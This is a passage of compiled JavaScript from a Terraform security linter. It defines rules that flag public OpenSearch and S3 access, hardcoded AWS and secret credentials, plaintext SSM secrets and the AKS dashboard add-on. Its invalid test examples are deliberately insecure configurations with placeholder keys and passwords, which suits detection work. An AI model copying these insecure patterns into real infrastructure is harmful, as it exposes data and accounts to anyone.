var aws_opensearch_domain_policy_public_default = defineRule({
  meta: {
    id: "aws-opensearch-domain-policy-public",
    title: "OpenSearch / Elasticsearch domain access policy allows any principal (public)",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: [...SEARCH_DOMAIN_TYPES, ...POLICY_TYPES],
    description: 'The domain\'s access policy allows `Principal: "*"` without any condition, and the domain has a public endpoint (it is not in a VPC). Anyone on the internet can then send unsigned requests to read, write or delete its indices.',
    remediation: "Grant access to specific IAM roles or users, or restrict the statement with an `aws:SourceIp` condition; better, move the domain into a VPC and enable fine-grained access control.",
    precision: "high",
    cwe: ["CWE-284", "CWE-732"],
    tags: ["opensearch", "elasticsearch", "public-access", "resource-policy"],
    references: [
      "https://docs.aws.amazon.com/opensearch-service/latest/developerguide/ac.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain_policy"
    ]
  },
  check(resource, { graph, report }) {
    let domain = resource;
    if (POLICY_TYPES.includes(resource.type)) {
      const domains = referencedThrough(graph, resource, ["domain_name"]).filter((target) => SEARCH_DOMAIN_TYPES.includes(target.type));
      domain = domains.length === 1 ? domains[0] : void 0;
    }
    if (domain && isInVpc(domain) !== false) return;
    const policy = policyDocumentAt(graph, resource, ["access_policies"]);
    if (!policy) return;
    const statements = readPolicy(policy.document) ?? [];
    for (const statement of statements) {
      if (statement.effect !== "Allow" || statement.principal !== "*" || Object.keys(statement.conditions).length > 0 || statement.partial) continue;
      const what = domain ? `${domainKind(domain)} ${domain.name}` : `Domain policy ${resource.name}`;
      const related = policy.resource.id === resource.id ? void 0 : [{ resource: policy.resource.id, at: policy.statementAt(statement.index), message: "statement that allows any principal" }];
      report({ at: ["access_policies"], message: `${what} is public: its access policy allows any principal ("*") without conditions`, related });
      return;
    }
  },
  examples: {
    valid: [
      {
        name: "access limited to a role",
        filename: "main.tf",
        code: `resource "aws_opensearch_domain" "search" {
  domain_name = "catalog"
}

resource "aws_opensearch_domain_policy" "search" {
  domain_name = aws_opensearch_domain.search.domain_name
  access_policies = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Principal = { AWS = "arn:aws:iam::123456789012:role/catalog-indexer" }
      Action    = "es:ESHttp*"
      Resource  = "arn:aws:es:eu-west-1:123456789012:domain/catalog/*"
    }]
  })
}
`
      }
    ],
    invalid: [
      {
        name: "policy document data source with Principal *",
        filename: "main.tf",
        code: `resource "aws_elasticsearch_domain" "logs" {
  domain_name = "logs"
}

data "aws_iam_policy_document" "logs" {
  statement {
    actions   = ["es:*"]
    resources = ["*"]
    principals {
      type        = "AWS"
      identifiers = ["*"]
    }
  }
}

resource "aws_elasticsearch_domain_policy" "logs" {
  domain_name     = aws_elasticsearch_domain.logs.domain_name
  access_policies = data.aws_iam_policy_document.logs.json
}
`,
        errors: [{ line: 18, column: 3, messageIncludes: "is public" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-provider-hardcoded-credentials.ts
var aws_provider_hardcoded_credentials_default = defineRule({
  meta: {
    id: "aws-provider-hardcoded-credentials",
    title: "Hardcoded AWS access key and secret key in the provider block",
    severity: "critical",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["provider"],
    description: "The `aws` provider block sets `access_key`, `secret_key` or `token` to literal values. Anyone who can read the repository, or any of its clones, forks and CI logs, gets the credentials and with them the account access of the user they belong to.",
    remediation: "Delete the literals and deactivate the key in IAM now. Let the provider find credentials in the environment: a role assumed through OIDC in CI, an instance profile, AWS SSO profiles on laptops (`profile`, `assume_role`).",
    precision: "very-high",
    cwe: ["CWE-798"],
    tags: ["secrets", "hardcoded-secret", "access-key", "provider"],
    references: [
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs#authentication-and-configuration",
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html"
    ]
  },
  check(provider, { report }) {
    if (!/^provider\.aws(\.|$)/.test(provider.name)) return;
    const written = ["secret_key", "access_key", "token"].filter((key) => isHardcodedSecretValue(provider.attributes[key]));
    if (written.length === 0) return;
    report({ at: [written[0]], message: `${provider.name} has hardcoded AWS credentials (${written.join(", ")})` });
  },
  examples: {
    valid: [
      {
        filename: "providers.tf",
        code: `provider "aws" {
  region  = "eu-west-1"
  profile = "acme-dev"
  assume_role {
    role_arn = "arn:aws:iam::123456789012:role/terraform"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "providers.tf",
        code: `provider "aws" {
  alias      = "legacy"
  region     = "us-east-1"
  access_key = "AKIA2E0A8F3B244C9986"
  secret_key = "k8Rv0q2Lw9yTn4Xb7Zc1Md6Pf3Hs5Ju8Ge0Ai2Wq"
}
`,
        errors: [{ line: 5, column: 3, messageIncludes: "secret_key, access_key" }]
      }
    ]
  }
});

// packages/rules/src/support/s3-bucket.ts
var PUBLIC_ACCESS_BLOCK_SETTINGS = ["block_public_acls", "block_public_policy", "ignore_public_acls", "restrict_public_buckets"];
function bucketSettings(graph, bucket, type) {
  const found = /* @__PURE__ */ new Set();
  for (const edge of graph.edgesTo(bucket.id, "references")) {
    const source = graph.get(edge.from);
    if (source?.type === type && edge.via?.[0] === "bucket") found.add(source);
  }
  const name = bucket.attributes.bucket;
  if (typeof name === "string") {
    for (const candidate of graph.findBy(type, "bucket-name", bucketNameKey, groupKey(bucket, name))) found.add(candidate);
  }
  return [...found];
}
function bucketOf(graph, setting) {
  const referenced = graph.targets(setting.id, "references").find((target) => target.type === "aws_s3_bucket");
  if (referenced) return referenced;
  const name = setting.attributes.bucket;
  return typeof name === "string" ? graph.findBy("aws_s3_bucket", "bucket-name", bucketNameKey, groupKey(setting, name))[0] : void 0;
}
function bucketNameKey(resource) {
  const name = resource.attributes.bucket;
  return typeof name === "string" ? groupKey(resource, name) : void 0;
}
function groupKey(resource, name) {
  return `${resource.id.slice(0, resource.id.indexOf("::"))}${name}`;
}
function unblockedSettings(block) {
  return PUBLIC_ACCESS_BLOCK_SETTINGS.filter((setting) => {
    const value = block.attributes[setting];
    return value === void 0 || value === null || value === false;
  });
}
function accountBlocksPublicAccess(graph, near) {
  return graph.ofType("aws_s3_account_public_access_block").some((block) => sameGroup(block, near) && unblockedSettings(block).length === 0);
}
function sameGroup(a, b) {
  return a.id.slice(0, a.id.indexOf("::")) === b.id.slice(0, b.id.indexOf("::"));
}

// packages/rules/src/terraform/iam/aws-s3-account-public-access-block-disabled.ts
var aws_s3_account_public_access_block_disabled_default = defineRule({
  meta: {
    id: "aws-s3-account-public-access-block-disabled",
    title: "S3 account-level public access block leaves settings off",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_s3_account_public_access_block"],
    description: "The account-wide S3 public access block declares one or more of `block_public_acls`, `ignore_public_acls`, `block_public_policy` and `restrict_public_buckets` as false (or leaves them at their false default). The account's safety net against a bucket made publicly accessible by mistake is then partly switched off, for every bucket at once.",
    remediation: "Set all four settings to `true`; grant the few deliberately public buckets access through CloudFront rather than public policies or ACLs.",
    precision: "very-high",
    cwe: ["CWE-732"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.1.4"] },
    tags: ["s3", "public-access-block", "account"],
    references: ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/configuring-block-public-access-account.html"]
  },
  check(block, { report }) {
    const off = unblockedSettings(block);
    if (off.length === 0) return;
    const first = off.find((setting) => block.attributes[setting] === false);
    report({
      at: first ? [first] : [],
      message: `${block.name} leaves account-wide S3 public access open: ${off.join(", ")} ${off.length === 1 ? "is" : "are"} not true`
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_s3_account_public_access_block" "account" {
  block_public_acls       = true
  ignore_public_acls      = true
  block_public_policy     = true
  restrict_public_buckets = true
}
`
      }
    ],
    invalid: [
      {
        name: "a setting turned off",
        filename: "main.tf",
        code: `resource "aws_s3_account_public_access_block" "account" {
  block_public_acls       = true
  ignore_public_acls      = true
  block_public_policy     = false
  restrict_public_buckets = true
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "block_public_policy is not true" }]
      },
      {
        name: "settings left at their default",
        filename: "main.tf",
        code: `resource "aws_s3_account_public_access_block" "account" {
  block_public_acls = true
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "ignore_public_acls" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-s3-bucket-policy-public-principal.ts
var NARROWING_KEYS2 = /* @__PURE__ */ new Set([
  "aws:sourceip",
  "aws:sourcevpc",
  "aws:sourcevpce",
  "aws:principalorgid",
  "aws:principalorgpaths",
  "aws:principalaccount",
  "aws:principalarn",
  "aws:sourcearn",
  "aws:sourceaccount",
  "aws:sourceorgid",
  "aws:sourceorgpaths",
  "aws:userid",
  "aws:username",
  "aws:calledvia",
  "s3:dataaccesspointaccount",
  "s3:dataaccesspointarn"
]);
var aws_s3_bucket_policy_public_principal_default = defineRule({
  meta: {
    id: "aws-s3-bucket-policy-public-principal",
    title: "S3 bucket policy allows any principal",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_s3_bucket_policy", "aws_s3_bucket"],
    description: 'A bucket policy statement allows `Principal: "*"` (or `AWS: "*"`) with no condition that limits it to a network, an organisation or an account. Anyone on the internet, signed in to any AWS account or not, gets the statement\'s actions on the bucket, and the bucket has no public access block that would stop it.',
    remediation: "Name the principals that need access (accounts, roles, the CloudFront distribution through `aws:SourceArn`), or add a condition such as `aws:PrincipalOrgID` or `aws:SourceVpce`. Turn on `block_public_policy` and `restrict_public_buckets` in the bucket's public access block.",
    precision: "high",
    cwe: ["CWE-732"],
    tags: ["s3", "public-access-policy"],
    references: ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html#access-control-block-public-access-policy-status"]
  },
  check(resource, { graph, report }) {
    const policy = policyDocumentAt(graph, resource, ["policy"]);
    if (!policy) return;
    const bucket = resource.type === "aws_s3_bucket" ? resource : bucketOf(graph, resource);
    if (publicPolicyRestricted(graph, bucket ?? resource)) return;
    for (const statement of readPolicy(policy.document) ?? []) {
      if (statement.partial || statement.effect !== "Allow" || statement.principal !== "*" || isNarrowed(statement)) continue;
      const label = statement.sid ? `statement "${statement.sid}"` : `statement ${statement.index + 1}`;
      const actions = statement.actions.length > 0 ? statement.actions.join(", ") : "everything but NotAction";
      const related = [];
      if (policy.resource !== resource) related.push({ resource: policy.resource.id, at: policy.statementAt(statement.index), message: `${label} of ${policy.resource.name}` });
      if (bucket && bucket !== resource) related.push({ resource: bucket.id, message: `the bucket ${bucket.name}` });
      report({ at: ["policy"], message: `${resource.name}: ${label} allows anyone (Principal "*") to ${actions}`, related });
    }
  },
  examples: {
    valid: [
      {
        name: "public principal narrowed to the organisation; a deny for anyone",
        filename: "main.tf",
        code: `resource "aws_s3_bucket_policy" "shared" {
  bucket = aws_s3_bucket.shared.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [
      {
        Effect    = "Allow"
        Principal = "*"
        Action    = "s3:GetObject"
        Resource  = "arn:aws:s3:::acme-shared/*"
        Condition = { StringEquals = { "aws:PrincipalOrgID" = "o-a1b2c3d4e5" } }
      },
      {
        Effect    = "Deny"
        Principal = "*"
        Action    = "s3:*"
        Resource  = "arn:aws:s3:::acme-shared/*"
        Condition = { Bool = { "aws:SecureTransport" = "false" } }
      }
    ]
  })
}
`
      },
      {
        name: "the bucket's public access block restricts public policies",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "site" {
  bucket = "acme-site"
}

resource "aws_s3_bucket_public_access_block" "site" {
  bucket                  = aws_s3_bucket.site.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}

resource "aws_s3_bucket_policy" "site" {
  bucket = aws_s3_bucket.site.id
  policy = jsonencode({
    Statement = [{ Effect = "Allow", Principal = "*", Action = "s3:GetObject", Resource = "arn:aws:s3:::acme-site/*" }]
  })
}
`
      }
    ],
    invalid: [
      {
        name: 'jsonencode with AWS = "*"',
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "site" {
  bucket = "acme-site"
}

resource "aws_s3_bucket_policy" "site" {
  bucket = aws_s3_bucket.site.id
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{ Sid = "PublicRead", Effect = "Allow", Principal = { AWS = "*" }, Action = "s3:GetObject", Resource = "arn:aws:s3:::acme-site/*" }]
  })
}
`,
        errors: [{ line: 7, column: 3, messageIncludes: 'statement "PublicRead" allows anyone (Principal "*") to s3:GetObject' }]
      },
      {
        name: "a policy document data source",
        filename: "main.tf",
        code: `data "aws_iam_policy_document" "uploads" {
  statement {
    actions   = ["s3:PutObject"]
    resources = ["arn:aws:s3:::acme-uploads/*"]
    principals {
      type        = "*"
      identifiers = ["*"]
    }
  }
}

resource "aws_s3_bucket_policy" "uploads" {
  bucket = "acme-uploads"
  policy = data.aws_iam_policy_document.uploads.json
}
`,
        errors: [{ line: 14, column: 3, messageIncludes: "s3:PutObject" }]
      }
    ]
  }
});
function publicPolicyRestricted(graph, bucket) {
  if (accountBlocksPublicAccess(graph, bucket)) return true;
  const blocks = bucket.type === "aws_s3_bucket" ? bucketSettings(graph, bucket, "aws_s3_bucket_public_access_block") : [];
  return blocks.some((block) => block.attributes.block_public_policy === true || block.attributes.restrict_public_buckets === true);
}
function isNarrowed(statement) {
  return Object.values(statement.conditions).some((keys) => Object.keys(keys).some((key) => NARROWING_KEYS2.has(key.toLowerCase())));
}

// packages/rules/src/terraform/iam/aws-s3-bucket-public-access-not-blocked.ts
var PUBLIC_ACCESS_BLOCK = "aws_s3_bucket_public_access_block";
var aws_s3_bucket_public_access_not_blocked_default = defineRule({
  meta: {
    id: "aws-s3-bucket-public-access-not-blocked",
    title: "S3 bucket without a public access block that blocks all four settings",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_s3_bucket", PUBLIC_ACCESS_BLOCK],
    description: "No `aws_s3_bucket_public_access_block` for the bucket (and no account-wide `aws_s3_account_public_access_block`) turns on all four of `block_public_acls`, `ignore_public_acls`, `block_public_policy` and `restrict_public_buckets`. Then one public ACL or bucket policy statement, written by mistake or by a compromised pipeline, is enough to publish the bucket's objects to the internet.",
    remediation: "Add an `aws_s3_bucket_public_access_block` for the bucket with the four settings set to `true`, or one `aws_s3_account_public_access_block` for the account. Serve public content through CloudFront with origin access control instead of a public bucket.",
    precision: "high",
    cwe: ["CWE-732"],
    frameworks: { "CIS AWS Foundations 3.0": ["2.1.4"] },
    tags: ["s3", "public-access-block"],
    references: ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-control-block-public-access.html"]
  },
  check(resource, { graph, report }) {
    if (accountBlocksPublicAccess(graph, resource)) return;
    if (resource.type === PUBLIC_ACCESS_BLOCK) {
      const off = unblockedSettings(resource);
      if (off.length === 0) return;
      const bucket = bucketOf(graph, resource);
      const first = off[0];
      report({
        at: resource.attributes[first] === false ? [first] : [],
        message: `${resource.name} leaves public access open: ${off.map((setting) => `\`${setting}\``).join(", ")} ${off.length === 1 ? "is" : "are"} not true`,
        related: bucket ? [{ resource: bucket.id, message: `the bucket ${bucket.name}` }] : []
      });
      return;
    }
    if (bucketSettings(graph, resource, PUBLIC_ACCESS_BLOCK).length > 0) return;
    report({ message: `S3 bucket ${resource.name} has no public access block; a public ACL or bucket policy would expose its objects` });
  },
  examples: {
    valid: [
      {
        name: "every setting on",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "reports" {
  bucket = "acme-reports"
}

resource "aws_s3_bucket_public_access_block" "reports" {
  bucket                  = aws_s3_bucket.reports.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}
`
      },
      {
        name: "account-wide block",
        filename: "main.tf",
        code: `resource "aws_s3_account_public_access_block" "account" {
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}

resource "aws_s3_bucket" "reports" {
  bucket = "acme-reports"
}
`
      },
      {
        name: "a setting from a variable is not known to be off",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "reports" {
  bucket = "acme-reports"
}

resource "aws_s3_bucket_public_access_block" "reports" {
  bucket                  = aws_s3_bucket.reports.id
  block_public_acls       = true
  block_public_policy     = var.block_policies
  ignore_public_acls      = true
  restrict_public_buckets = true
}
`
      }
    ],
    invalid: [
      {
        name: "no block at all",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "uploads" {
  bucket = "acme-uploads"
}
`,
        errors: [{ line: 1, column: 1, messageIncludes: "no public access block" }]
      },
      {
        name: "a block that turns a setting off, in another file",
        filename: "s3.tf",
        code: `resource "aws_s3_bucket" "uploads" {
  bucket = "acme-uploads"
}
`,
        extraFiles: {
          "public-access.tf": `resource "aws_s3_bucket_public_access_block" "uploads" {
  bucket                  = aws_s3_bucket.uploads.id
  block_public_acls       = true
  block_public_policy     = false
  ignore_public_acls      = true
}
`
        },
        errors: [{ file: "public-access.tf", line: 4, column: 3, messageIncludes: "`block_public_policy`, `restrict_public_buckets` are not true" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-s3-bucket-public-acl.ts
var PUBLIC_CANNED_ACLS = /* @__PURE__ */ new Map([
  ["public-read", "anyone on the internet can read"],
  ["public-read-write", "anyone on the internet can read and write"],
  ["authenticated-read", "any AWS account can read"]
]);
var PUBLIC_GROUPS = /* @__PURE__ */ new Map([
  ["http://acs.amazonaws.com/groups/global/AllUsers", "AllUsers (anyone on the internet)"],
  ["http://acs.amazonaws.com/groups/global/AuthenticatedUsers", "AuthenticatedUsers (any AWS account)"]
]);
var aws_s3_bucket_public_acl_default = defineRule({
  meta: {
    id: "aws-s3-bucket-public-acl",
    title: "S3 bucket or object has a public ACL (public-read, public-read-write, AllUsers)",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_s3_bucket", "aws_s3_bucket_acl", "aws_s3_object", "aws_s3_bucket_object"],
    description: "The ACL is `public-read`, `public-read-write` or `authenticated-read`, or grants the `AllUsers` or `AuthenticatedUsers` group: the data is publicly accessible to anyone on the internet (or to every AWS account), and `public-read-write` lets anyone overwrite or plant objects.",
    remediation: 'Use the `private` ACL (or disable ACLs with `object_ownership = "BucketOwnerEnforced"`), turn on the bucket\'s public access block, and serve public content through CloudFront with origin access control.',
    precision: "very-high",
    cwe: ["CWE-732"],
    tags: ["s3", "public-acl", "public-access-policy"],
    references: [
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/acl-overview.html#canned-acl",
      "https://docs.aws.amazon.com/AmazonS3/latest/userguide/about-object-ownership.html"
    ]
  },
  check(resource, { graph, report }) {
    if (publicAclsIgnored(graph, resource)) return;
    const acl = resource.attributes.acl;
    if (typeof acl === "string" && PUBLIC_CANNED_ACLS.has(acl)) {
      report({ at: ["acl"], message: `${resource.name} has the public ACL "${acl}": ${PUBLIC_CANNED_ACLS.get(acl)}` });
      return;
    }
    for (const grant of publicGrants(resource)) {
      report({ at: grant.at, message: `${resource.name} has a public ACL grant to ${PUBLIC_GROUPS.get(grant.uri)}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_s3_bucket_acl" "logs" {
  bucket = aws_s3_bucket.logs.id
  acl    = "log-delivery-write"
}

resource "aws_s3_bucket" "site" {
  bucket = "acme-site"
  acl    = "public-read"
}

resource "aws_s3_bucket_public_access_block" "site" {
  bucket                  = aws_s3_bucket.site.id
  block_public_acls       = true
  ignore_public_acls      = true
  block_public_policy     = true
  restrict_public_buckets = true
}
`
      }
    ],
    invalid: [
      {
        name: "canned ACL on the bucket (AWS provider v3)",
        filename: "main.tf",
        code: `resource "aws_s3_bucket" "exports" {
  bucket = "acme-exports"
  acl    = "public-read"
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "anyone on the internet can read" }]
      },
      {
        name: "explicit grant to AllUsers",
        filename: "main.tf",
        code: `resource "aws_s3_bucket_acl" "media" {
  bucket = aws_s3_bucket.media.id
  access_control_policy {
    grant {
      grantee {
        type = "Group"
        uri  = "http://acs.amazonaws.com/groups/global/AllUsers"
      }
      permission = "READ"
    }
    owner {
      id = data.aws_canonical_user_id.current.id
    }
  }
}
`,
        errors: [{ line: 7, column: 9, messageIncludes: "AllUsers" }]
      }
    ]
  }
});
function publicGrants(resource) {
  const found = [];
  const visit = (grants, base, uriKey) => {
    asList(grants).forEach((grant, index) => {
      if (!isObject(grant)) return;
      if (uriKey === "uri") {
        if (typeof grant.uri === "string" && PUBLIC_GROUPS.has(grant.uri)) found.push({ at: [...base, index, "uri"], uri: grant.uri });
        return;
      }
      asList(grant.grantee).forEach((grantee, granteeIndex) => {
        if (isObject(grantee) && typeof grantee.uri === "string" && PUBLIC_GROUPS.has(grantee.uri)) {
          found.push({ at: [...base, index, "grantee", granteeIndex, "uri"], uri: grantee.uri });
        }
      });
    });
  };
  if (resource.type === "aws_s3_bucket") visit(resource.attributes.grant, ["grant"], "uri");
  if (resource.type === "aws_s3_bucket_acl") {
    asList(resource.attributes.access_control_policy).forEach((policy, index) => {
      if (isObject(policy)) visit(policy.grant, ["access_control_policy", index, "grant"], "grantee");
    });
  }
  return found;
}
function publicAclsIgnored(graph, resource) {
  const bucket = resource.type === "aws_s3_bucket" ? resource : bucketOf(graph, resource);
  const group = resource.id.slice(0, resource.id.indexOf("::"));
  const accountWide = graph.ofType("aws_s3_account_public_access_block").some((block) => block.id.slice(0, block.id.indexOf("::")) === group && isTrue(block.attributes.ignore_public_acls));
  if (accountWide) return true;
  if (!bucket) return false;
  return bucketSettings(graph, bucket, "aws_s3_bucket_public_access_block").some((block) => isTrue(block.attributes.ignore_public_acls));
}

// packages/rules/src/terraform/iam/aws-secretsmanager-secret-hardcoded-value.ts
var aws_secretsmanager_secret_hardcoded_value_default = defineRule({
  meta: {
    id: "aws-secretsmanager-secret-hardcoded-value",
    title: "Hardcoded secret value in a Secrets Manager secret version",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_secretsmanager_secret_version"],
    description: "`secret_string` is a literal in the configuration. Keeping the value in Secrets Manager protects nothing when the same value is committed to the repository next to it and stored in the Terraform state.",
    remediation: "Generate the value (`random_password`, or `manage_master_user_password` for databases), or create the secret empty in Terraform and set its value out of band (with `lifecycle { ignore_changes = [secret_string] }`); turn on rotation.",
    precision: "high",
    cwe: ["CWE-798"],
    tags: ["secrets", "hardcoded-secret", "secrets-manager"],
    references: [
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/secretsmanager_secret_version",
      "https://docs.aws.amazon.com/secretsmanager/latest/userguide/rotating-secrets.html"
    ]
  },
  check(version, { report }) {
    if (ignoresValueChanges(version.attributes.lifecycle)) return;
    if (!isHardcodedSecretValue(version.attributes.secret_string)) return;
    report({ at: ["secret_string"], message: `${version.name}: secret_string is a hardcoded secret value in the configuration` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_secretsmanager_secret_version" "partner" {
  secret_id     = aws_secretsmanager_secret.partner.id
  secret_string = jsonencode({ username = "orders", password = random_password.partner.result })
}
`
      },
      {
        name: "placeholder replaced out of band",
        filename: "main.tf",
        code: `resource "aws_secretsmanager_secret_version" "partner" {
  secret_id     = aws_secretsmanager_secret.partner.id
  secret_string = "set-by-the-partner-onboarding-runbook"

  lifecycle {
    ignore_changes = [secret_string]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_secretsmanager_secret_version" "partner" {
  secret_id     = aws_secretsmanager_secret.partner.id
  secret_string = jsonencode({ username = "orders", password = "Part-ner-2024" })
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});
function ignoresValueChanges(lifecycle) {
  return asList(lifecycle).some((block) => {
    if (!isObject(block)) return false;
    const ignored = block.ignore_changes;
    return ignored === "all" || Array.isArray(ignored) && ignored.some((item) => isUnknown(item) || typeof item === "string" && /secret_string|^all$/.test(item));
  });
}

// packages/rules/src/terraform/iam/aws-ssm-parameter-secret-not-secure-string.ts
var aws_ssm_parameter_secret_not_secure_string_default = defineRule({
  meta: {
    id: "aws-ssm-parameter-secret-not-secure-string",
    title: "SSM parameter named like a password or secret is stored as plain String",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_ssm_parameter"],
    description: "A parameter whose name says it holds a password, secret, token or key has type `String` (or `StringList`). Its value is stored and returned unencrypted, readable by anyone with `ssm:GetParameter`, without the KMS key permission a `SecureString` would also require.",
    remediation: 'Use `type = "SecureString"` with a customer-managed `key_id`, or keep the secret in AWS Secrets Manager.',
    precision: "medium",
    cwe: ["CWE-312"],
    tags: ["secrets", "ssm", "plaintext-secret"],
    references: ["https://docs.aws.amazon.com/systems-manager/latest/userguide/sysman-paramstore-securestring.html"]
  },
  check(parameter, { report }) {
    const { name, type } = parameter.attributes;
    if (typeof name !== "string" || type !== "String" && type !== "StringList") return;
    const last = name.split("/").filter(Boolean).pop() ?? name;
    if (!isSecretName(last)) return;
    report({ at: ["type"], message: `SSM parameter ${name} looks like a secret but is stored unencrypted as ${type}; use SecureString` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ssm_parameter" "db_password" {
  name   = "/orders/db/password"
  type   = "SecureString"
  key_id = aws_kms_key.params.arn
  value  = random_password.db.result
}

resource "aws_ssm_parameter" "db_host" {
  name  = "/orders/db/host"
  type  = "String"
  value = aws_db_instance.orders.address
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_ssm_parameter" "api_token" {
  name  = "/orders/partner/api_token"
  type  = "String"
  value = random_password.partner.result
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "/orders/partner/api_token" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-terraform-variable-hardcoded-secret.ts
var aws_terraform_variable_hardcoded_secret_default = defineRule({
  meta: {
    id: "aws-terraform-variable-hardcoded-secret",
    title: "Hardcoded password or secret as a Terraform variable default",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["variable"],
    description: "A variable whose name says it holds a password, secret, token or key has a literal default. The credential is then in the repository, in every clone and fork and in its history, and every deployment that forgets to override it uses the same known value.",
    remediation: "Remove the default and mark the variable `sensitive = true`; pass the value from a secret store at apply time (`TF_VAR_…` from the CI secret store), or let the resource generate and keep it (`manage_master_user_password`, `random_password` with AWS Secrets Manager).",
    precision: "high",
    cwe: ["CWE-798"],
    tags: ["secrets", "hardcoded-secret", "terraform-variable"],
    references: [
      "https://developer.hashicorp.com/terraform/language/values/variables#suppressing-values-in-cli-output",
      "https://developer.hashicorp.com/terraform/tutorials/configuration-language/sensitive-variables"
    ]
  },
  check(variable, { report }) {
    const name = variable.name.replace(/^var\./, "");
    const value = variable.attributes.default;
    if (isSecretName(name) && isHardcodedSecretValue(value)) {
      report({ at: ["default"], message: `variable "${name}" has a hardcoded secret as its default value` });
      return;
    }
    if (!isObject(value)) return;
    for (const [key, item] of Object.entries(value)) {
      if (isSecretName(key) && isHardcodedSecretValue(item)) {
        report({ at: ["default", key], message: `variable "${name}" has a hardcoded secret in its default (${key})` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "variables.tf",
        code: `variable "db_password" {
  type      = string
  sensitive = true
}

variable "password_length" {
  type    = number
  default = 32
}

variable "api_token_ssm_path" {
  default = "/acme/api/token"
}
`
      }
    ],
    invalid: [
      {
        name: "password default",
        filename: "variables.tf",
        code: `variable "db_password" {
  type        = string
  description = "Master password"
  default     = "Winter2024!"
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "db_password" }]
      },
      {
        name: "secret inside a map default",
        filename: "variables.tf",
        code: `variable "service" {
  default = {
    name          = "billing"
    client_secret = "b7f1c2d9e4a85f03"
  }
}
`,
        errors: [{ line: 4, column: 5, messageIncludes: "client_secret" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/azure-aks-dashboard-enabled.ts
var azure_aks_dashboard_enabled_default = defineRule({
  meta: {
    id: "azure-aks-dashboard-enabled",
    title: "AKS Kubernetes dashboard add-on enabled",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_kubernetes_cluster"],
    description: "The Kubernetes dashboard runs inside the cluster with a service account that often holds broad rights; an exposed or proxied dashboard has been a common way into clusters. The add-on is deprecated on AKS.",
    remediation: "Remove the `kube_dashboard` add-on (or set `enabled = false`) and use the Azure portal's Kubernetes resource view or `kubectl` with Azure AD credentials.",
    precision: "very-high",
    cwe: ["CWE-1188"],
    tags: ["azure", "aks", "kubernetes", "dashboard"],
    references: [
      "https://learn.microsoft.com/azure/aks/kubernetes-portal",
      "https://registry.terraform.io/providers/hashicorp/azurerm/2.99.0/docs/resources/kubernetes_cluster#kube_dashboard"
    ]
  },
  check(cluster, { report }) {
    asList(cluster.attributes.addon_profile).forEach((profile, profileIndex) => {
      if (!isObject(profile)) return;
      asList(profile.kube_dashboard).forEach((dashboard, index) => {
        if (isObject(dashboard) && dashboard.enabled === true) {
          report({ at: ["addon_profile", profileIndex, "kube_dashboard", index, "enabled"], message: `AKS cluster ${cluster.name} has the Kubernetes dashboard add-on enabled` });
        }
      });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "intranet" {
  name                = "aks-intranet"
  location            = "westeurope"
  resource_group_name = "rg-intranet"
  dns_prefix          = "intranet"

  addon_profile {
    kube_dashboard {
      enabled = false
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_kubernetes_cluster" "intranet" {
  name                = "aks-intranet"
  location            = "westeurope"
  resource_group_name = "rg-intranet"
  dns_prefix          = "intranet"

